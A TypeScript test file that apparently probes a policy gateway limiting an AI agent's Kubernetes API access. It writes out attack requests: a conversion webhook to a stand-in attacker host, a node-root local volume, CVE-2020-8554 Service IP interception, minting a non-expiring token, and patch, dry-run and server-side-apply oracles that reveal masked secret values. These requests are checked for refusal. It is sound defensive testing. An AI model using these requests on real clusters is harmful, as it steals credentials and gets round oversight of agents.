// Sixth attack round on the Kubernetes path, against the real kube-apiserver, by an agent holding a valid token
// under the default policy (`staging` is not a production namespace: plain writes there pass): credentials, node
// access and interception reached by kinds that do not look like them, and an oracle on the values masks hide.
import { test } from 'uvu'
import * as assert from 'uvu/assert'
import { type KubeAttack, startKubeAttack } from './testing/kube-attack.ts'

let k: KubeAttack
const admin = (args: string[], stdin?: string) => k.admin(args, stdin)

// A credential pasted as a literal env value (masked in every answer), short enough to guess from a list.
const VALUE = 'hunter2'

const agent = (path: string, opts: { method?: string; body?: string; type?: string } = {}) =>
  k.agent(path, { method: opts.method, body: opts.body, headers: opts.type ? { 'content-type': opts.type } : {} })

const crd = {
  apiVersion: 'apiextensions.k8s.io/v1', kind: 'CustomResourceDefinition', metadata: { name: 'databases.example.com' },
  spec: {
    group: 'example.com', scope: 'Namespaced', names: { plural: 'databases', singular: 'database', kind: 'Database' },
    versions: [{ name: 'v1', served: true, storage: true, schema: { openAPIV3Schema: { type: 'object', 'x-kubernetes-preserve-unknown-fields': true } } }],
  },
}

test.before(async () => {
  k = await startKubeAttack('attack-kube6', { holdSeconds: 0.2 })
  for (const ns of ['staging', 'prod']) {
    await admin(['create', 'namespace', ns])
    await admin(['create', 'serviceaccount', 'default', '-n', ns])
  }
  await admin(['create', 'serviceaccount', 'deployer', '-n', 'staging'])
  await admin(['run', 'web', '-n', 'staging', '--image=busybox', `--env=PASSWORD=${VALUE}`])
  await admin(['apply', '-f', '-'], JSON.stringify(crd))
  await admin(['create', 'secret', 'generic', 'db', '-n', 'staging', `--from-literal=password=${VALUE}`])
  await admin(['apply', '-f', '-'], JSON.stringify({ apiVersion: 'v1', kind: 'Secret', metadata: { name: 'frozen', namespace: 'staging' }, immutable: true, stringData: { password: VALUE } }))
  await admin(['apply', '-f', '-'], JSON.stringify({
    apiVersion: 'apps/v1', kind: 'Deployment', metadata: { name: 'api', namespace: 'staging' },
    spec: { selector: { matchLabels: { app: 'api' } }, template: { metadata: { labels: { app: 'api' } }, spec: { containers: [{ name: 'c', image: 'busybox', env: [{ name: 'PASSWORD', value: VALUE }] }] } } },
  }))
})

test.after(async () => {
  await k?.close()
})

const held = (a: { status: number; body: string }, rule: string) => {
  assert.is(a.status, 403, a.body.slice(0, 300))
  assert.match(a.body, 'held for approval', a.body.slice(0, 300))
  assert.match(a.body, rule, a.body.slice(0, 600))
}

test('a Secret of type service-account-token (the token controller fills it with a token that never expires) is held like a token request', async () => {
  const body = JSON.stringify({
    apiVersion: 'v1', kind: 'Secret', type: 'kubernetes.io/service-account-token',
    metadata: { name: 'deployer-token', namespace: 'staging', annotations: { 'kubernetes.io/service-account.name': 'deployer' } },
  })
  held(await agent('/api/v1/namespaces/staging/secrets', { method: 'POST', type: 'application/json', body }), 'warden.rules.kubernetes.token')
  const apply = `apiVersion: v1\nkind: Secret\nmetadata:\n  name: deployer-token\n  annotations:\n    kubernetes.io/service-account.name: deployer\ntype: kubernetes.io/service-account-token\n`
  held(await agent('/api/v1/namespaces/staging/secrets/deployer-token?fieldManager=agent', { method: 'PATCH', type: 'application/apply-patch+yaml', body: apply }), 'warden.rules.kubernetes.token')
  assert.not.match(await admin(['get', 'secrets', '-n', 'staging', '-o', 'name']), 'deployer-token')
  // An ordinary Secret still writes.
  const plain = JSON.stringify({ apiVersion: 'v1', kind: 'Secret', type: 'Opaque', metadata: { name: 'plain', namespace: 'staging' }, stringData: { a: 'b' } })
  assert.is((await agent('/api/v1/namespaces/staging/secrets', { method: 'POST', type: 'application/json', body: plain })).status, 201)
})

test('a conversion webhook on a CustomResourceDefinition (its objects sent in clear to a URL) is refused for an agent', async () => {
  const path = '/apis/apiextensions.k8s.io/v1/customresourcedefinitions/databases.example.com'
  const webhook = { conversionReviewVersions: ['v1'], clientConfig: { url: 'https://attacker.example/convert' } }
  for (const [type, body] of [
    ['application/merge-patch+json', JSON.stringify({ spec: { conversion: { strategy: 'Webhook', webhook } } })],
    ['application/json-patch+json', JSON.stringify([{ op: 'add', path: '/spec/conversion', value: { strategy: 'Webhook', webhook } }])],
  ] as const) {
    const a = await agent(path, { method: 'PATCH', type, body })
    assert.is(a.status, 403, a.body.slice(0, 300))
    assert.match(a.body, 'warden.rules.kubernetes.interception', a.body.slice(0, 600))
    assert.not.match(a.body, 'held for approval')
  }
  assert.is(JSON.parse(await admin(['get', 'crd', 'databases.example.com', '-o', 'json'])).spec.conversion.strategy, 'None')
})

test('a local persistent volume (a node directory, as hostPath) is refused as host access', async () => {
  const pv = {
    apiVersion: 'v1', kind: 'PersistentVolume', metadata: { name: 'node-root' },
    spec: {
      capacity: { storage: '1Gi' }, accessModes: ['ReadWriteOnce'], storageClassName: 'manual', local: { path: '/' },
      nodeAffinity: { required: { nodeSelectorTerms: [{ matchExpressions: [{ key: 'kubernetes.io/hostname', operator: 'Exists' }] }] } },
    },
  }
  const a = await agent('/api/v1/persistentvolumes', { method: 'POST', type: 'application/json', body: JSON.stringify(pv) })
  assert.is(a.status, 403, a.body.slice(0, 300))
  assert.match(a.body, 'warden.rules.kubernetes.host_access', a.body.slice(0, 600))
  assert.not.match(a.body, 'held for approval')
  assert.not.match(await admin(['get', 'pv', '-o', 'name']), 'node-root')
})

test('external IPs on a Service, or a load balancer IP written to its status (CVE-2020-8554: other pods\' traffic to that address goes to the Service\'s pods), are refused for an agent', async () => {
  const svc = { apiVersion: 'v1', kind: 'Service', metadata: { name: 'mitm', namespace: 'staging' }, spec: { selector: { app: 'agent' }, ports: [{ port: 5432 }], externalIPs: ['10.96.0.99'] } }
  const a = await agent('/api/v1/namespaces/staging/services', { method: 'POST', type: 'application/json', body: JSON.stringify(svc) })
  assert.is(a.status, 403, a.body.slice(0, 300))
  assert.match(a.body, 'warden.rules.kubernetes.interception', a.body.slice(0, 600))
  assert.not.match(await admin(['get', 'services', '-n', 'staging', '-o', 'name']), 'mitm')
  // A plain Service writes; adding external IPs to it, or a load balancer ingress IP to its status, does not.
  const plain = { ...svc, metadata: { ...svc.metadata, name: 'plain' }, spec: { ...svc.spec, type: 'LoadBalancer', externalIPs: undefined } }
  assert.is((await agent('/api/v1/namespaces/staging/services', { method: 'POST', type: 'application/json', body: JSON.stringify(plain) })).status, 201)
  for (const [path, body] of [
    ['/api/v1/namespaces/staging/services/plain', [{ op: 'add', path: '/spec/externalIPs', value: ['10.96.0.99'] }]],
    ['/api/v1/namespaces/staging/services/plain/status', [{ op: 'add', path: '/status/loadBalancer/ingress', value: [{ ip: '10.96.0.99' }] }]],
  ] as const) {
    const p = await agent(path, { method: 'PATCH', type: 'application/json-patch+json', body: JSON.stringify(body) })
    assert.is(p.status, 403, `${path}: ${p.status} ${p.body.slice(0, 300)}`)
    assert.match(p.body, 'warden.rules.kubernetes.interception', p.body.slice(0, 600))
  }
  assert.not.match(await admin(['get', 'service', 'plain', '-n', 'staging', '-o', 'json']), '10.96.0.99')
})

const guess = (value: string) => JSON.stringify([
  { op: 'test', path: '/spec/containers/0/env/0/value', value },
  { op: 'add', path: '/metadata/labels/guessed', value: 'yes' },
])

test('control: a JSON patch test op answers whether a guess is the masked env value', async () => {
  const wrong = await admin(['patch', 'pod', 'web', '-n', 'staging', '--type', 'json', '-p', guess('letmein')]).catch((err: Error) => err.message)
  assert.match(wrong, 'request is invalid', wrong)
  const right = await admin(['patch', 'pod', 'web', '-n', 'staging', '--type', 'json', '-p', guess(VALUE)])
  assert.match(right, 'patched')
  await admin(['label', 'pod', 'web', '-n', 'staging', 'guessed-'])
})

test('a JSON patch test op on a workload (its env values are masked) is held: no oracle on them', async () => {
  for (const value of ['letmein', VALUE]) {
    const a = await agent('/api/v1/namespaces/staging/pods/web', { method: 'PATCH', type: 'application/json-patch+json', body: guess(value) })
    held(a, 'warden.rules.kubernetes.secret_oracle')
  }
  assert.not.match(await admin(['get', 'pod', 'web', '-n', 'staging', '--show-labels']), 'guessed')
  // A patch without a test op still applies.
  const label = JSON.stringify([{ op: 'add', path: '/metadata/labels/tier', value: 'web' }])
  assert.is((await agent('/api/v1/namespaces/staging/pods/web', { method: 'PATCH', type: 'application/json-patch+json', body: label })).status, 200)
})

// Server-side apply without force answers 409 Conflict when the value it sets differs from one another field
// manager set, and applies (nothing changes) when it is equal: with dryRun=All, an oracle without a trace.
const applySecret = (value: string) => `apiVersion: v1\nkind: Secret\nmetadata:\n  name: db\ndata:\n  password: ${Buffer.from(value).toString('base64')}\n`
const applyEnv = (value: string) => `apiVersion: apps/v1\nkind: Deployment\nmetadata:\n  name: api\nspec:\n  template:\n    spec:\n      containers:\n      - name: c\n        env:\n        - name: PASSWORD\n          value: ${value}\n`
const apply = (path: string, body: string, query = 'fieldManager=agent&dryRun=All') =>
  agent(`${path}?${query}`, { method: 'PATCH', type: 'application/apply-patch+yaml', body })

test('control: a server-side apply without force answers whether a guess is the value another manager set', async () => {
  const run = async (path: string, body: (v: string) => string) => {
    const guessAs = (v: string) => admin(['apply', '--server-side', '--dry-run=server', '--field-manager=guesser', '-n', 'staging', '-f', '-'], body(v)).catch((err: Error) => err.message)
    const wrong = await guessAs('letmein')
    const right = await guessAs(VALUE)
    assert.match(wrong, 'conflict', `${path}: ${wrong}`)
    assert.not.match(right, 'conflict', `${path}: ${right}`)
  }
  await run('secrets', applySecret)
  await run('deployments', applyEnv)
})

test('a server-side apply without force that sets a Secret value or a workload env value (a conflict oracle) is held', async () => {
  for (const [path, body] of [
    ['/api/v1/namespaces/staging/secrets/db', applySecret],
    ['/apis/apps/v1/namespaces/staging/deployments/api', applyEnv],
  ] as const) {
    for (const value of ['letmein', VALUE]) held(await apply(path, body(value)), 'warden.rules.kubernetes.secret_oracle')
  }
  // With force (and for real), what the apply sets on a Deployment is written whatever was there: no oracle, but a
  // change of what the existing workload runs, held as that (workload_code, attack-kube7).
  // (A Secret's stays held with force: an immutable one refuses a changed value, as the next tests show.)
  const forced = await apply('/apis/apps/v1/namespaces/staging/deployments/api', applyEnv('debug').replace('PASSWORD', 'LOG_LEVEL'), 'fieldManager=agent&force=true')
  held(forced, 'warden.rules.kubernetes.workload_code')
  assert.not.match(forced.body, 'secret_oracle')
  // A server-side apply that sets no masked value is not held.
  const labels = `apiVersion: apps/v1\nkind: Deployment\nmetadata:\n  name: api\n  labels:\n    tier: web\n`
  assert.is((await apply('/apis/apps/v1/namespaces/staging/deployments/api', labels)).status, 200)
})

// A key pasted into a ConfigMap: a content detector masks it in every answer to an agent.
const AWS_KEY = 'AKIAIOSFODNN7EXAMPLE'
const applyConfig = (value: string) => `apiVersion: v1\nkind: ConfigMap\nmetadata:\n  name: cfg\ndata:\n  aws: ${value}\n`

test('control: a ConfigMap value a detector masks is answered equal or not by a server-side apply dry run (200 or 409)', async () => {
  await admin(['create', 'configmap', 'cfg', '-n', 'staging', `--from-literal=aws=${AWS_KEY}`])
  const read = await agent('/api/v1/namespaces/staging/configmaps/cfg')
  assert.not.match(read.body, AWS_KEY, 'masked when read')
  const guessAs = (v: string) => admin(['apply', '--server-side', '--dry-run=server', '--field-manager=guesser', '-n', 'staging', '-f', '-'], applyConfig(v)).catch((err: Error) => err.message)
  assert.match(await guessAs('AKIAIOSFODNN7EXAMPLF'), 'conflict')
  assert.not.match(await guessAs(AWS_KEY), 'conflict')
})

test('a server-side apply without force, or a dry run, that sets a ConfigMap value is held; a forced apply and a plain patch write', async () => {
  for (const value of ['AKIAIOSFODNN7EXAMPLF', AWS_KEY]) held(await apply('/api/v1/namespaces/staging/configmaps/cfg', applyConfig(value)), 'warden.rules.kubernetes.secret_oracle')
  const forced = await apply('/api/v1/namespaces/staging/configmaps/cfg', applyConfig('AKIAIOSFODNN7EXAMPLF'), 'fieldManager=agent&force=true&dryRun=All')
  held(forced, 'warden.rules.kubernetes.secret_oracle')
  const plain = await agent('/api/v1/namespaces/staging/configmaps/cfg', { method: 'PATCH', type: 'application/merge-patch+json', body: JSON.stringify({ data: { level: 'debug' } }) })
  assert.is(plain.status, 200, plain.body.slice(0, 300))
  const real = await apply('/api/v1/namespaces/staging/configmaps/cfg', applyConfig('rotated'), 'fieldManager=agent&force=true')
  assert.is(real.status, 200, real.body.slice(0, 300))
})

// An immutable Secret refuses a changed value and accepts the same one; a Pod's env is immutable alike.
const frozen = (value: string) => JSON.stringify({ data: { password: Buffer.from(value).toString('base64') } })
const podEnv = (value: string) => JSON.stringify({ spec: { containers: [{ name: 'web', env: [{ name: 'PASSWORD', value }] }] } })

test('control: a patch of an immutable value answers whether a guess is the stored one, a dry run through the generation', async () => {
  for (const [kind, name, body] of [['secret', 'frozen', frozen], ['pod', 'web', podEnv]] as const) {
    const wrong = await admin(['patch', kind, name, '-n', 'staging', '--dry-run=server', '-p', body('letmein')]).catch((err: Error) => err.message)
    assert.match(wrong, /immutable|Forbidden/, `${kind}: ${wrong}`)
    assert.match(await admin(['patch', kind, name, '-n', 'staging', '--dry-run=server', '-p', body(VALUE)]), 'patched', kind)
  }
  const env = (value: string) => JSON.stringify({ spec: { template: { spec: { containers: [{ name: 'c', env: [{ name: 'PASSWORD', value }] }] } } } })
  const generation = (value: string) => admin(['patch', 'deployment', 'api', '-n', 'staging', '--dry-run=server', '-o', 'jsonpath={.metadata.generation}', '-p', env(value)])
  assert.is.not(await generation('letmein'), await generation(VALUE))
})

test('a patch that sets a Secret value or a pod env value (immutable: refused unless equal), or any env value in a dry run, is held', async () => {
  for (const [path, body] of [
    ['/api/v1/namespaces/staging/secrets/frozen?dryRun=All', frozen],
    ['/api/v1/namespaces/staging/pods/web?dryRun=All', podEnv],
  ] as const) {
    for (const value of ['letmein', VALUE]) {
      held(await agent(path, { method: 'PATCH', type: 'application/strategic-merge-patch+json', body: body(value) }), 'warden.rules.kubernetes.secret_oracle')
    }
  }
  // A Deployment's env is mutable: as a dry run, the generation of the object returned moves only for a changed
  // value (held); for real, setting it only changes it: no oracle, but held as a change of what the workload runs.
  const env = (value: string) => JSON.stringify({ spec: { template: { spec: { containers: [{ name: 'c', env: [{ name: 'PASSWORD', value }] }] } } } })
  const path = '/apis/apps/v1/namespaces/staging/deployments/api'
  for (const value of ['letmein', VALUE]) {
    held(await agent(`${path}?dryRun=All`, { method: 'PATCH', type: 'application/strategic-merge-patch+json', body: env(value) }), 'warden.rules.kubernetes.secret_oracle')
  }
  const d = await agent(path, { method: 'PATCH', type: 'application/strategic-merge-patch+json', body: env('rotated') })
  held(d, 'warden.rules.kubernetes.workload_code')
  assert.not.match(d.body, 'secret_oracle')
})

test.run()
